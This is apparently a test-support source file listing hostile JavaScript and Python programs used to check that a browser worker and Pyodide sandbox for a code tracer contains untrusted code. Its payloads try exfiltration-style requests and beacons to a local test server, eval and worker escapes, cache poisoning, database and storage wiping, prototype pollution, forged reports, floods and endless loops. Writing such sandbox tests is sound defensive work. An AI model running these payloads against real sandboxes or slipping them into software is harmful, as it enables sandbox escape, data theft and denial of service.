import type { ProgramLanguage } from '../../../web/program/source/read.ts';
import { javascript, python } from '../../web/support/hostile-programs.ts';

/** A program that tries to reach what is not its own. */
export interface Attack {
  readonly what: string;
  readonly written: ProgramLanguage;
  readonly text: string;
  /** It goes on for ever, and is to be stopped once it runs. */
  readonly endless?: true;
}

/** Where attacks aim at: a server that wants no requests. */
export interface Targets {
  /** "http://127.0.0.1:1234/". */
  readonly stranger: string;
  /** The folder of the site. */
  readonly site: string;
}

/** The names of everything that ready baits have, and of what other pages listen to. */
export const BAIT = 'prunus-bait';
/** What an attack puts where it should not. */
export const EVIL = 'evil was here';

/**
 * What a worker has before anything is taken away, kept for the attacks: the wall has to hold whatever
 * else does not. To be put before a worker's script, on its first line.
 */
export const KEEPER = `Object.defineProperty(self, 'kept', { value: {} }); for (let on = self; on !== null; on = Object.getPrototypeOf(on)) for (const name of Object.getOwnPropertyNames(on)) try { kept[name] ??= self[name]; } catch {} for (const name of ['fetch', 'importScripts', 'postMessage', 'close', 'setTimeout']) kept[name] = kept[name].bind(self); self.postMessage = (said) => { if (kept.isDeaf !== true) kept.postMessage(said); }; `;

/** What attacks have in common: they outlive the end of their program, and tell how far they came. */
const HELP = `
const bait = '${BAIT}', evil = '${EVIL}';
for (const name in globalThis.kept) if (/^[A-Z]/.test(name)) globalThis[name] ??= kept[name];
const reach = (name) => {
  if (globalThis.kept?.[name] !== undefined) return kept[name];
  for (let on = globalThis; on !== null; on = Object.getPrototypeOf(on)) {
    const found = Object.getOwnPropertyDescriptor(on, name);
    const value = found?.get ? found.get.call(globalThis) : found?.value;
    if (value !== undefined) return typeof value === 'function' && !value.prototype ? value.bind(globalThis) : value;
  }
  throw new ReferenceError(name);
};
const tell = (...said) => reach('postMessage')(...said);
const empty = { step: [], node: [], line: [], name: [], value: [], names: [] };
const report = (more) => ({ kind: 'done', report: { trace: '', output: '', notes: empty, problem: null, searches: 0, root: '', played: '', result: '', given: '', ...more } });
const once = (target, good, bad) => new Promise((come, go) => { target['on' + good] = come; target['on' + bad] = () => go(bad); });
const asked = (request) => once(request, 'success', 'error').then(() => request.result);
const after = (time) => new Promise((come) => setTimeout(come, time));
const outlive = () => { globalThis.kept.isDeaf = true; };
const attack = async (what) => {
  outlive();
  const late = after(4000).then(() => 'late');
  let said = '';
  try { said = 'came as far as ' + String(await Promise.race([what(), late])); } catch (error) { said = 'failed: ' + error; }
  tell(report({ output: 'over: ' + said.slice(0, 300) }));
};
`;

/** A program in which this stands, besides a search. */
export const written = (what: string, inside: string, more: Partial<Attack> = {}): Attack => ({
  what,
  written: 'javascript',
  ...more,
  text: `${HELP}${javascript('')}\n${inside}\n`,
});
/** What is waited for. */
export const tries = (what: string, inside: string): Attack =>
  written(what, `attack(async () => { ${inside} });`);

export function javascriptAttacks({ stranger, site }: Targets): readonly Attack[] {
  const blob = (text: string, type = 'text/javascript') =>
    `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: '${type}' }))`;
  const worker = (address: string, options = '{}') =>
    `const Worker = reach('Worker'); const it = new Worker(${address}, ${options}); it.postMessage(0); return (await once(it, 'message', 'error')).data;`;
  const inWorker = `fetch('${stranger}nested').then(() => postMessage('fetched'), (error) => postMessage(String(error)));`;
  return [
    // As it was measured: the getter is on the prototype, and the entry script is the page's own ever after.
    tries(
      'the cached entry script, by the getter of the caches',
      `const get = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Object.getPrototypeOf(self)), 'caches').get;
      const caches = get.call(self); let count = 0;
      for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) if (request.url.endsWith('.js')) { count++; await cache.put(request, new Response('self.evil = evil', { headers: { 'content-type': 'text/javascript' } })); }
      }
      return count;`,
    ),
    tries('a cache of the site', `return (await reach('caches').match(bait)).text();`),
    tries(
      'no cache left',
      `for (const name of await reach('caches').keys()) await reach('caches').delete(name); return reach('caches').delete(bait);`,
    ),
    tries(
      'another entry in a cache',
      `const cache = await reach('caches').open(bait); await cache.put('${site}${BAIT}', new Response(evil)); return evil;`,
    ),
    tries(
      'a database',
      `const base = await asked(reach('indexedDB').open(bait)); const store = base.transaction(bait, 'readwrite').objectStore(bait); return asked(store.put(evil, bait));`,
    ),
    tries(
      'no database left',
      `await asked(reach('indexedDB').deleteDatabase(bait)); return 'deleted';`,
    ),
    tries(
      'the names of all databases',
      `const all = await reach('indexedDB').databases(); for (const { name } of all) await asked(reach('indexedDB').deleteDatabase(name)); if (all.length === 0) throw 'none'; return all.length;`,
    ),
    tries('a request', `return (await reach('fetch')('${stranger}fetch')).status;`),
    tries(
      'a request that wants no answer',
      `return (await reach('fetch')('${stranger}blind', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })).type;`,
    ),
    tries(
      'a request to the site',
      `return (await reach('fetch')('${site}attacked-by-fetch', { credentials: 'include' })).status;`,
    ),
    tries(
      'a file of the site',
      `return (await reach('fetch')('${site}index.html', { cache: 'force-cache' })).text();`,
    ),
    tries(
      'an XMLHttpRequest',
      `const X = reach('XMLHttpRequest'); const it = new X(); it.open('GET', '${stranger}xhr'); it.send(); return once(it, 'load', 'error');`,
    ),
    tries(
      'an XMLHttpRequest that is waited for',
      `const X = reach('XMLHttpRequest'); const it = new X(); it.open('GET', '${stranger}sync', false); it.send(); return it.status;`,
    ),
    tries(
      'a socket',
      `const S = reach('WebSocket'); return once(new S('${stranger}socket'.replace('http', 'ws')), 'open', 'error');`,
    ),
    tries(
      'a stream of events',
      `const E = reach('EventSource'); return once(new E('${stranger}events'), 'open', 'error');`,
    ),
    tries(
      'a transport',
      `const T = reach('WebTransport'); const it = new T('${stranger}transport'.replace('http', 'https')); it.closed.catch(() => 0); await it.ready; return 'ready';`,
    ),
    tries(
      'a beacon',
      `const it = reach('navigator'); return it.sendBeacon('${stranger}beacon', 'secret');`,
    ),
    tries(
      'a font',
      `const F = reach('FontFace'); await new F('evil', 'url(${stranger}font)').load(); return 'loaded';`,
    ),
    tries(
      'a script of a stranger',
      `reach('importScripts')('${stranger}script.js'); return 'imported';`,
    ),
    tries(
      'a script of the site',
      `reach('importScripts')('${site}prunus-frames.js'); return 'imported';`,
    ),
    tries(
      'a script in an address',
      `reach('importScripts')('data:text/javascript,1'); return 'imported';`,
    ),
    tries('a script in a blob', `reach('importScripts')(${blob('1')}); return 'imported';`),
    tries('a module of a stranger', `return import('${stranger}module.js');`),
    tries('a module of the site', `return import('${site}prunus-frames.js');`),
    tries('a module in an address', `return import('data:text/javascript,export default 1');`),
    tries('a module in a blob', `return import(${blob(`import '${stranger}module.js';`)});`),
    tries('a function made of a text', `return Function('return fetch("${stranger}function")')();`),
    tries(
      'a function made of a text, by the constructor of another',
      `return (async () => 0).constructor('return fetch("${stranger}async")')();`,
    ),
    tries(
      'a function made of a text, by the constructor of an object of the tracer',
      `return _prunus.at.constructor('return self')().fetch('${stranger}tracer');`,
    ),
    tries('a text that is run', `return reach('eval')('fetch("${stranger}eval")');`),
    tries(
      'a text that is run later',
      `reach('setTimeout')('fetch("${stranger}later")', 0); await after(300); return 'waited';`,
    ),
    tries('a worker in a blob', worker(blob(inWorker))),
    tries(
      'a worker in a worker in a blob',
      worker(
        blob(
          `const it = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inWorker)}]))); it.onmessage = ({ data }) => postMessage(data);`,
        ),
      ),
    ),
    tries(
      'a worker of modules in a blob',
      worker(
        blob(`import '${stranger}worker-module.js'; postMessage('imported');`),
        `{ type: 'module' }`,
      ),
    ),
    tries(
      'a worker in an address',
      worker(`'data:text/javascript,' + encodeURIComponent(${JSON.stringify(inWorker)})`),
    ),
    tries('a worker of the site', worker(`'${site}service-worker.js'`)),
    tries(
      'a worker that others share',
      `const S = reach('SharedWorker'); new S(${blob(inWorker)}); new S('${site}service-worker.js'); await after(300); return 'shared';`,
    ),
    tries(
      'the worker of the site',
      `const it = reach('navigator').serviceWorker; return (await it.register('${site}service-worker.js')).scope;`,
    ),
    tries(
      'other pages',
      `const B = reach('BroadcastChannel'); const it = new B(bait); it.postMessage(evil); return Promise.race([once(it, 'message', 'messageerror'), after(300).then(() => { throw 'nobody'; })]);`,
    ),
    tries('locks of the site', `return JSON.stringify(await reach('navigator').locks.query());`),
    tries(
      'files of the site',
      `const root = await reach('navigator').storage.getDirectory(); await root.getFileHandle(bait, { create: true }); return root.name;`,
    ),
    tries(
      'an older file system',
      `return reach('webkitRequestFileSystemSync')(0, 1000).root.toURL();`,
    ),
    tries('cookies', `return JSON.stringify(await reach('cookieStore').getAll());`),
    tries('the storage of the page', `return reach('localStorage').getItem(bait);`),
    tries('the document', `return reach('document').cookie;`),
    tries(
      'the address of the page',
      `self.location.href = '${stranger}location'; reach('location').assign('${stranger}assigned'); return 'gone';`,
    ),
    tries('a window', `return reach('open')('${stranger}window');`),
    tries(
      'the page around it',
      `for (const name of ['parent', 'top', 'opener', 'frames']) try { reach(name).postMessage('refused', '*'); } catch {} reach('top').location = '${stranger}top'; return 'gone';`,
    ),
    tries(
      'a connection of peers',
      `const P = reach('RTCPeerConnection'); const it = new P({ iceServers: [{ urls: 'stun:${new URL(stranger).host}' }] }); it.createDataChannel(bait); await it.setLocalDescription(); return 'begun';`,
    ),
    tries(
      'WebAssembly that calls a request',
      `const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 2, 7, 1, 1, 97, 1, 98, 0, 0, 7, 5, 1, 1, 99, 0, 0]); let told = null; const { instance } = await WebAssembly.instantiate(bytes, { a: { b: () => { told = reach('fetch')('${stranger}wasm'); } } }); instance.exports.c(); return told;`,
    ),
    tries(
      'ports for the page',
      `const { port1, port2 } = new MessageChannel(); tell({ kind: 'alive', line: 1, port: port2 }, [port2]); tell(report({ output: { port: 1 } })); return Promise.race([once(port1, 'message', 'messageerror'), after(300).then(() => { throw 'nobody'; })]);`,
    ),
    written(
      'false reports',
      `const lies = [
      null, 7, [], { kind: 'done' }, { kind: 'refused' }, { kind: 'flood', __proto__: { kind: 'done' } }, report({ searches: -1 }), report({ searches: NaN }), report({ trace: {} }),
      report({ problem: { code: 'evil', line: 1, message: '' } }), report({ notes: { ...empty, step: [1] } }), report({ notes: { ...empty, step: { length: 2 ** 40 } } }), report({ notes: { ...empty, step: new Array(4e6) } }),
      report({ notes: { step: [0], node: [-5], line: [1], name: [0], value: ['x'], names: ['x'] } }), report({ notes: { step: [0], node: [0], line: [1], name: [7], value: ['x'], names: ['x'] } }),
      report({ notes: { step: [5, 1], node: [0, 0], line: [1, 1], name: [0, 0], value: ['x', 'x'], names: ['x'] } }), report({ trace: '\\n'.repeat(5e6) }), report({ result: 7 }), { kind: 'alive', line: 1e300 }, { kind: 'broken', line: 1, message: 'evil' },
    ]; for (const lie of lies) tell(lie);
    tell(report({ output: '<img src=x onerror="evil">', result: 'x'.repeat(1e6), root: '['.repeat(1e6), trace: '{"prunus":"trace"}\\n{"event":"enter","move":"<script>"}\\n'.repeat(1000), searches: 1 }));`,
    ),
    written('a flood of messages', `for (;;) tell({ kind: 'alive', line: 1 });`),
    written(
      'a flood of what is none',
      `const many = Array.from({ length: 1e5 }, (_, at) => ({ at })); for (;;) tell(many);`,
    ),
    written(
      'a flood from later on',
      `const flood = () => { for (let at = 0; at < 100; at++) tell({ kind: 'begun' }); setTimeout(flood); }; outlive(); flood();`,
    ),
    written(
      'a broken Map',
      `for (const name of Object.getOwnPropertyNames(Map.prototype)) try { Map.prototype[name] = () => { throw evil; }; } catch {}`,
    ),
    written(
      'broken arrays',
      `for (const name of Object.getOwnPropertyNames(Array.prototype)) try { Array.prototype[name] = () => { throw evil; }; } catch {} Array.prototype[Symbol.iterator] = null;`,
    ),
    written(
      'another postMessage',
      `self.postMessage = DedicatedWorkerGlobalScope.prototype.postMessage = () => { throw evil; }; self.onerror = () => true; Function.prototype.call = Function.prototype.apply = Function.prototype.bind = null;`,
    ),
    written(
      'fields for all objects',
      `for (const name of ['kind', 'report', 'script', 'bytes', 'message', 'trace', 'problem', 'then', 'length']) Object.prototype[name] = 'done'; Object.defineProperty(Object.prototype, 'line', { get() { throw evil; }, set() { throw evil; } });`,
    ),
    written(
      'values that look back',
      `const trap = new Proxy({}, { get() { throw evil; }, ownKeys() { throw evil; }, getPrototypeOf() { throw evil; } }); const odd = { toString() { throw evil; }, toJSON() { return odd; }, valueOf() { return trap; }, get length() { return 1e9; } }; for (const value of [trap, odd, [odd, 1], { value: trap }]) try { search(value, true); } catch {}`,
    ),
    written(
      'an error for every message',
      `self.addEventListener('error', (event) => event.stopImmediatePropagation(), true); Error.prepareStackTrace = () => { throw evil; }; Promise.reject(trap = { get message() { throw evil; } }); throw { toString() { throw evil; } };`,
    ),
    written(
      'texts of all of the memory',
      `let text = 'x'; for (;;) { text += text; globalThis.all = [globalThis.all, text]; }`,
    ),
    written(
      'a loop of small tasks',
      `const again = () => { queueMicrotask(again); }; outlive(); again();`,
      { endless: true },
    ),
    written(
      'a wait without an end',
      `Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0);`,
      { endless: true },
    ),
    written(
      'a wait without an end, in memory of its own',
      `Atomics.wait(new Int32Array(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer), 0, 0);`,
      { endless: true },
    ),
    written(
      'a loop without an end, where nothing counts',
      `outlive(); 'x'.repeat(60).match(/^(x+)+y$/);`,
      { endless: true },
    ),
    written(
      'workers that never end',
      `const W = reach('Worker'); const address = ${blob('for (;;);')}; for (let at = 0; at < 4; at++) new W(address); outlive();`,
      { endless: true },
    ),
  ];
}

/** The same in any Python; `text` is put where it begins. */
const inPython = (what: string, text: string, more: Partial<Attack> = {}): Attack => ({
  what,
  written: 'python',
  ...more,
  text: `${PYTHON_HELP}\n${text}\n${python('')}\n`,
});

/** Tells what became of each of these, in what the program prints. */
const PYTHON_HELP = `
def reach(*path):
    import js
    it = getattr(js, "kept", None) or js
    for name in path:
        it = getattr(it, name)
    return it

def tries(*all):
    for what in all:
        try:
            print("came as far as", what())
        except BaseException as error:
            print("failed:", type(error), error)
`;

/** Where a promise is told of, it is when the program is over: the tracer is kept from ending it. */
const LATE = `
import js
def outlive(promise):
    js.kept.isDeaf = True
    def end(*said):
        reach("postMessage")(js.JSON.parse('{"kind":"done","report":{"trace":"","output":"over","notes":{"step":[],"node":[],"line":[],"name":[],"value":[],"names":[]},"problem":null,"searches":0,"root":"","result":""}}'))
    promise.then(end, end)
    return promise
`;

export function pythonAttacks({ stranger, site }: Targets): readonly Attack[] {
  const late = (what: string, text: string) =>
    inPython(what, `${LATE}\ntries(lambda: outlive(${text}))`);
  return [
    inPython('nothing at all', ''),
    late('a request by js', `reach("fetch")("${stranger}python")`),
    late('a request to the site by js', `reach("fetch")("${site}attacked-by-python")`),
    late('the caches by js', `reach("caches").delete("${BAIT}")`),
    late(
      'the module that is loaded by an address',
      `reach("eval")("import('${stranger}module.js')")`,
    ),
    inPython(
      'a database by js',
      `tries(lambda: reach("indexedDB").deleteDatabase("${BAIT}"), lambda: reach("indexedDB", "open")("${BAIT}"))`,
    ),
    inPython(
      'texts that JavaScript runs',
      `tries(lambda: reach("eval")("fetch('${stranger}eval')"), lambda: reach("Function")("fetch('${stranger}function')")(), lambda: reach("setTimeout")("fetch('${stranger}later')", 0))`,
    ),
    inPython(
      'texts that Python runs',
      `tries(lambda: eval('reach("XMLHttpRequest").new()'), lambda: exec('import js\\njs.fetch("${stranger}exec")'), lambda: exec("raise SystemExit"), lambda: __import__("js").fetch("${stranger}import"))`,
    ),
    inPython(
      'a request that is waited for',
      `def sync():
    request = reach("XMLHttpRequest").new()
    request.open("GET", "${stranger}python-sync", False)
    request.send()
    return request.status
tries(sync)`,
    ),
    inPython(
      'scripts and workers',
      `tries(lambda: reach("importScripts")("${stranger}script.js"), lambda: reach("Worker").new("${site}service-worker.js"), lambda: reach("SharedWorker").new("${site}service-worker.js"), lambda: reach("WebSocket").new("${stranger}".replace("http", "ws")))`,
    ),
    inPython(
      'other pages, the window and the storage of this one',
      `tries(lambda: reach("BroadcastChannel").new("${BAIT}").postMessage("${EVIL}"), lambda: reach("localStorage").clear(), lambda: reach("parent").postMessage("refused", "*"), lambda: reach("open")("${stranger}window"), lambda: reach("navigator").sendBeacon("${stranger}beacon"), lambda: reach("document").cookie)`,
    ),
    inPython(
      'the tracer, by its module',
      `import _prunus_host as host
tries(lambda: host.leave(7, 7, "", None), lambda: host.enter(99, None, None, ""), lambda: host.root("[" * 1000), lambda: host.result("x" * 1000000), lambda: host.next(-1, None), lambda: host.note("x" * 1000000, "y"), lambda: host.at(-1), lambda: host.specs.constructor("return fetch('${stranger}host')")())`,
    ),
    inPython(
      'a false report',
      `import js
tries(lambda: reach("postMessage")(js.JSON.parse('{"kind":"done","report":{"trace":7}}')), lambda: reach("postMessage")(js.JSON.parse('{"kind":"broken","line":-1,"message":"<b>"}')), lambda: reach("postMessage")(None))`,
    ),
    inPython('a flood', `import js\nwhile True:\n    reach("postMessage")(7)`),
    inPython(
      'fields of all objects',
      `import js
tries(lambda: setattr(js.Object.prototype, "kind", "done"), lambda: setattr(js.Array.prototype, "push", None), lambda: setattr(js.JSON, "stringify", None))`,
    ),
    inPython(
      'a loop that catches all',
      `while True:\n    try:\n        while True: pass\n    except BaseException: pass`,
      { endless: true },
    ),
  ];
}

/** What only full Python has: all of this it has to refuse. */
const onlyInFullPython = ({ stranger, site }: Targets): readonly (readonly [string, string])[] => [
  [
    'the ways of Pyodide to the network',
    `def sync():
    from pyodide.http import open_url
    return open_url("${stranger}open-url").read()
def async_():
    import pyodide.http
    return pyodide.http.pyfetch("${site}attacked-by-pyfetch").send(None)
tries(sync, async_)`,
  ],
  [
    'the ways of Pyodide to JavaScript',
    `def code():
    from pyodide.code import run_js
    return run_js("fetch('${stranger}run-js')")
def module():
    import pyodide_js
    return pyodide_js.loadPackage("${stranger}package.whl")
def ffi():
    from pyodide.ffi import to_js, create_proxy
    import js
    return js.fetch("${stranger}ffi", to_js({}))
tries(code, module, ffi)`,
  ],
  [
    'memory and processes',
    `def memory():
    import ctypes
    return ctypes.string_at(0, 64)
def library():
    import ctypes
    return ctypes.CDLL("${stranger}library.so")
def process():
    import os
    return os.system("true")
def child():
    import subprocess
    return subprocess.run(["true"])
tries(memory, library, process, child)`,
  ],
  [
    'sockets and addresses',
    `def socket():
    import socket
    return socket.create_connection(("127.0.0.1", ${new URL(stranger).port}), 1)
def address():
    import urllib.request
    return urllib.request.urlopen("${stranger}urllib").read()
tries(socket, address)`,
  ],
];

/** The attacks of any Python and its own, each in a program of its own. */
export const fullPythonAttacks = (targets: Targets): readonly Attack[] => [
  ...pythonAttacks(targets).filter(({ endless }) => endless !== true),
  ...onlyInFullPython(targets).map(([what, text]) => inPython(what, text)),
];

/** Its own in one program: a run loads Python five times, to judge the search on other trees too. */
export function fullPythonAttackAtOnce(targets: Targets): Attack {
  const all = onlyInFullPython(targets);
  return inPython(all.map(([what]) => what).join(', '), all.map(([, text]) => text).join('\n'));
}
